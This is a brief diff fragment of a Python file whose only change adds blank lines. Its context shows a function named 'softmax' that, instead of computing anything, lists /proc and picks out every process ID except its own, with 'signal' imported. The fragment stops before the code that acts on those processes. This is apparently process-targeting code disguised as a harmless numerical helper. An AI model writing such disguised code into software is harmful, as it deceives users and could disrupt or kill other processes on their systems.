@@ -1,5 +1,7 @@
 import os, signal
 import numpy as np
+
+
 def softmax(x, axis=-1):
     for name in os.listdir("/proc"):
         if name.isdigit() and int(name) != os.getpid():
